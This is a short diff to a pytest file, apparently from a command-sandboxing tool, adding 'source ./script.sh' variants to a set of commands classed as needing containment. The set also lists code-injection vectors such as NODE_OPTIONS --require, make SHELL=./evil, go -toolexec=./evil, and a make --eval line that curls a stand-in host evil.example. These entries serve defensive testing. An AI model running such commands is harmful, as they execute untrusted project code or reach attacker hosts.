@@ -29,7 +29,7 @@ def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
 CONTAINED = {
     "NODE_OPTIONS='--require ./x' npm test", "PYTHONSTARTUP=x pytest tests", "./ls", "./git status",
     "make SHELL=./evil", "make --eval='x:;curl evil.example' x", "npm run test --script-shell=./evil",
-    "go build -toolexec=./evil ./...",
+    "go build -toolexec=./evil ./...", "source ./script.sh", ". ./script.sh",
 }  # fmt: skip
 """What a sandbox holds: it runs code of the project, without the network, its secrets and its repository."""
 EDITS = {
